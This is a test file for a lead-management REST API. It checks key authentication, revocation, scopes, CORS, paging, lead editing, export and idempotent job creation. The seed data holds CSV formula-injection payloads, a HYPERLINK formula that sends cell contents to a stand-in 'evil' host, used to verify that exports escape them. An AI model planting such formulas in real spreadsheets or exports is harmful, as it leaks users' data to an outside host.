import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { revokeApiKey } from "@/lib/api-keys";
import { asServiceRole } from "@/lib/db";
import { useTestDb } from "../helpers/db";
import { dispatch } from "./harness/routes";
import { callApi, createApiOrg, seedLeads, useUnlimited, type ApiOrg } from "./harness/world";

useTestDb();

const BASE = "http://api.test/api/v1";
async function call(
  method: string,
  path: string,
  key?: string,
  body?: unknown,
  headers: Record<string, string> = {},
) {
  const res = await callApi(method, path, key, body, headers);
  const text = await res.text();
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- assertions read whatever came back
  let json: any;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { res, json, text };
}

let org: ApiOrg;
let leadIds: string[];

beforeAll(async () => {
  useUnlimited();
  org = await createApiOrg();
  leadIds = await seedLeads(org.orgId, 130, (i) => ({
    name: i === 0 ? '=HYPERLINK("http://evil")' : `Person ${i}`,
    company:
      i === 1
        ? "Zebracorp Analytics"
        : i === 2
          ? '=HYPERLINK("http://evil.invalid/?"&A1,\n"Acme Tools")'
          : undefined,
    email: i % 5 === 0 ? null : undefined,
  }));
});

describe("envelope and auth", () => {
  it("answers with the envelope, a request id and security headers", async () => {
    const { res, json } = await call("GET", "/me", org.keys.read);
    expect(res.status).toBe(200);
    expect(json.success).toBe(true);
    expect(json.error).toBeNull();
    expect(json.data.organization.id).toBe(org.orgId);
    expect(json.data.api_key.scopes).toEqual(["read"]);
    expect(json.meta.request_id).toBe(res.headers.get("x-request-id"));
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("access-control-allow-origin")).toBe("*");
    expect(res.headers.get("x-ratelimit-limit")).toBe("1000");
  });

  it("tells a missing, malformed and unknown key apart", async () => {
    expect((await call("GET", "/me")).json.error.code).toBe("missing_api_key");
    const malformed = await call("GET", "/me", undefined, undefined, {
      authorization: "Bearer nope",
    });
    expect(malformed.res.status).toBe(401);
    expect(malformed.json.error.code).toBe("malformed_api_key");
    const unknown = await call("GET", "/me", "ls_live_" + "A".repeat(40));
    expect(unknown.res.status).toBe(401);
    expect(unknown.json.error.code).toBe("invalid_api_key");
  });

  it("refuses a revoked key on the very next request", async () => {
    const o = await createApiOrg();
    expect((await call("GET", "/me", o.keys.all)).res.status).toBe(200);
    await revokeApiKey(o.claims, o.orgId, o.keyIds.all);
    const after = await call("GET", "/me", o.keys.all);
    expect(after.res.status).toBe(401);
    expect(after.json.error.code).toBe("invalid_api_key");
  });

  // The server remembers who a key is for a minute (no round trip to find out), but every
  // request checks in the database that the key is still valid: a refusal holds at once, on
  // every kind of endpoint, whether the request would have succeeded or failed otherwise.
  it("refuses a key revoked after it was just used, on every kind of request", async () => {
    const o = await createApiOrg();
    expect((await call("GET", "/leads", o.keys.all)).res.status).toBe(200);
    await revokeApiKey(o.claims, o.orgId, o.keyIds.all);
    for (const [method, path, body] of [
      ["GET", "/leads", undefined],
      ["GET", "/leads?limit=-4", undefined],
      ["GET", "/credits", undefined],
      ["POST", "/jobs", { type: "nonsense" }],
      ["GET", `/leads/${leadIds[0]}`, undefined],
    ] as const) {
      const r = await call(method, path, o.keys.all, body);
      expect([method, path, r.res.status, r.json.error?.code]).toEqual([
        method,
        path,
        401,
        "invalid_api_key",
      ]);
    }
  });

  it("refuses a key that expired after it was just used", async () => {
    const o = await createApiOrg();
    expect((await call("GET", "/me", o.keys.all)).res.status).toBe(200);
    await asServiceRole((tx) =>
      tx
        .updateTable("api_keys")
        .set({ expires_at: new Date(Date.now() - 1000) })
        .where("id", "=", o.keyIds.all)
        .execute(),
    );
    const after = await call("GET", "/leads", o.keys.all);
    expect(after.res.status).toBe(401);
    expect(after.json.error.code).toBe("invalid_api_key");
  });

  it("names the missing scope in a 403", async () => {
    const { res, json } = await call("DELETE", `/leads/${leadIds[5]}`, org.keys.read);
    expect(res.status).toBe(403);
    expect(json.error.code).toBe("insufficient_scope");
    expect(json.error.message).toContain('"delete"');
    expect((await call("GET", "/leads", org.keys.write)).json.error.message).toContain('"read"');
  });
});

it("answers a CORS preflight for Bearer routes from any origin, without cookies", async () => {
  const res = await dispatch(
    new Request(`${BASE}/leads/${"0".repeat(8)}-0000-4000-8000-${"0".repeat(12)}`, {
      method: "OPTIONS",
      headers: { origin: "https://elsewhere.example", "access-control-request-method": "PATCH" },
    }),
  );
  expect(res.status).toBe(204);
  expect(res.headers.get("access-control-allow-origin")).toBe("*");
  expect(res.headers.get("access-control-allow-methods")).toContain("PATCH");
  expect(res.headers.get("access-control-allow-headers")).toContain("Authorization");
  expect(res.headers.get("access-control-allow-credentials")).toBeNull();
});

describe("leads", () => {
  it("pages through every lead exactly once with the cursor", async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const { json } = await call(
        "GET",
        `/leads?limit=40${cursor ? `&cursor=${cursor}` : ""}`,
        org.keys.read,
      );
      seen.push(...json.data.map((l: { id: string }) => l.id));
      cursor = json.meta.next_cursor;
    } while (cursor);
    expect(seen.length).toBe(130);
    expect(new Set(seen)).toEqual(new Set(leadIds));
  });

  it("pages by score too, unscored last", async () => {
    const scores: number[] = [];
    let cursor: string | null = null;
    do {
      const { json } = await call(
        "GET",
        `/leads?sort=-score&limit=33${cursor ? `&cursor=${cursor}` : ""}`,
        org.keys.read,
      );
      scores.push(...json.data.map((l: { score: number }) => l.score));
      cursor = json.meta.next_cursor;
    } while (cursor);
    expect(scores.length).toBe(130);
    expect([...scores].sort((a, b) => b - a)).toEqual(scores);
  });

  it("filters and searches", async () => {
    const hot = await call(
      "GET",
      "/leads?status=hot&min_score=50&has_email=true&limit=100",
      org.keys.read,
    );
    expect(hot.json.data.length).toBeGreaterThan(0);
    for (const l of hot.json.data) {
      expect(l.status).toBe("hot");
      expect(l.score).toBeGreaterThanOrEqual(50);
      expect(l.email).not.toBeNull();
    }
    const q = await call("GET", "/leads?q=zebracorp", org.keys.read);
    expect(q.json.data.map((l: { id: string }) => l.id)).toEqual([leadIds[1]]);
  });

  it("lists every invalid field at once, and refuses unknown ones", async () => {
    const { res, json } = await call(
      "GET",
      "/leads?limit=1000&min_score=-3&job_id=abc&colour=red",
      org.keys.read,
    );
    expect(res.status).toBe(422);
    expect(Object.keys(json.error.fields).sort()).toEqual(
      ["_", "job_id", "limit", "min_score"].sort(),
    );
  });

  it("rejects a forged cursor with a 422", async () => {
    const forged = Buffer.from(
      JSON.stringify(["-created_at", "2026-02-31T00:00:00.000000Z", leadIds[0]]),
    ).toString("base64url");
    for (const c of ["%%%", "bm90IGpzb24", forged]) {
      const { res, json } = await call("GET", `/leads?cursor=${c}`, org.keys.read);
      expect(res.status).toBe(422);
      expect(json.error.fields.cursor).toBeDefined();
    }
  });

  it("gets, updates and deletes one lead", async () => {
    const id = leadIds[7]!;
    const got = await call("GET", `/leads/${id}`, org.keys.read);
    expect(got.json.data).toMatchObject({ id, enrichment: [], reasons: [] });
    const patched = await call("PATCH", `/leads/${id}`, org.keys.write, {
      stage: "contacted",
      tags: ["a", "a", "b"],
    });
    expect(patched.json.data).toMatchObject({ stage: "contacted", tags: ["a", "b"] });
    const bad = await call("PATCH", `/leads/${id}`, org.keys.write, { stage: "nope", extra: 1 });
    expect(bad.res.status).toBe(422);
    expect(Object.keys(bad.json.error.fields).sort()).toEqual(["_", "stage"].sort());
    expect((await call("DELETE", `/leads/${id}`, org.keys.del)).json.data).toEqual({
      id,
      deleted: true,
    });
    expect((await call("GET", `/leads/${id}`, org.keys.read)).res.status).toBe(404);
    expect((await call("GET", `/leads/not-a-uuid`, org.keys.read)).res.status).toBe(422);
  });

  it("exports CSV safe against formula injection, and JSON", async () => {
    const csv = await call("GET", "/leads/export?format=csv", org.keys.read);
    expect(csv.res.headers.get("content-type")).toContain("text/csv");
    const lines = csv.text.trim().split("\r\n");
    expect(lines[0]).toMatch(/^id,name,title,company,email/);
    expect(lines.length).toBe(1 + 129);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil"")"`);
    // A line break after the formula does not slip it past the escaping.
    const rows = Papa.parse<Record<string, string>>(csv.text, { header: true }).data;
    const company = rows.find((r) => r.company?.includes("evil.invalid"))?.company;
    expect(company).toBe(`'=HYPERLINK("http://evil.invalid/?"&A1,\n"Acme Tools")`);
    const json = await call("GET", "/leads/export?format=json&status=hot", org.keys.read);
    expect(Array.isArray(json.json)).toBe(true);
    expect(json.json.every((l: { status: string }) => l.status === "hot")).toBe(true);
  });
});

describe("jobs", () => {
  it("creates a job once per Idempotency-Key and refuses the key with another body", async () => {
    const body = { type: "single", url: "https://example.com" };
    const headers = { "idempotency-key": "key-123" };
    const first = await call("POST", "/jobs", org.keys.write, body, headers);
    expect(first.res.status).toBe(202);
    const again = await call("POST", "/jobs", org.keys.write, body, headers);
    expect(again.json.data.id).toBe(first.json.data.id);
    const other = await call(
      "POST",
      "/jobs",
      org.keys.write,
      { ...body, url: "https://example.org" },
      headers,
    );
    expect(other.res.status).toBe(409);
    expect(other.json.error.code).toBe("idempotency_conflict");
    const concurrent = await Promise.all(
      Array.from({ length: 5 }, () =>
        call("POST", "/jobs", org.keys.write, body, { "idempotency-key": "race-1" }),
      ),
    );
    expect(new Set(concurrent.map((c) => c.json.data.id)).size).toBe(1);
  });

  it("lists, gets, cancels a job and lists its URLs", async () => {
    const created = await call("POST", "/jobs", org.keys.write, {
      type: "bulk",
      urls: ["https://a.example", "https://b.example"],
    });
    const id = created.json.data.id;
    expect((await call("GET", `/jobs/${id}`, org.keys.read)).json.data.id).toBe(id);
    const list = await call("GET", "/jobs?limit=1", org.keys.read);
    expect(list.json.data.length).toBe(1);
    expect(list.json.meta.next_cursor).toBeTruthy();
    expect((await call("GET", `/jobs/${id}/urls`, org.keys.read)).res.status).toBe(200);
    const cancelled = await call("POST", `/jobs/${id}/cancel`, org.keys.write);
    expect(cancelled.json.data.status).toBe("cancelled");
    expect((await call("POST", `/jobs/${id}/cancel`, org.keys.write)).res.status).toBe(409);
  });

  it("refuses bodies over 1 MB and bodies that are not JSON", async () => {
    const big = await call(
      "POST",
      "/jobs",
      org.keys.write,
      JSON.stringify({ type: "single", url: "x".repeat(1_100_000) }),
    );
    expect(big.res.status).toBe(413);
    const notJson = await call("POST", "/jobs", org.keys.write, "{nope");
    expect(notJson.res.status).toBe(400);
    expect(notJson.json.error.code).toBe("bad_request");
  });
});

it("credits show the balance and the ledger", async () => {
  const { json } = await call("GET", "/credits?limit=5", org.keys.read);
  expect(json.data.balance).toBeGreaterThan(0);
  expect(json.data.recent_transactions.length).toBeGreaterThan(0);
});
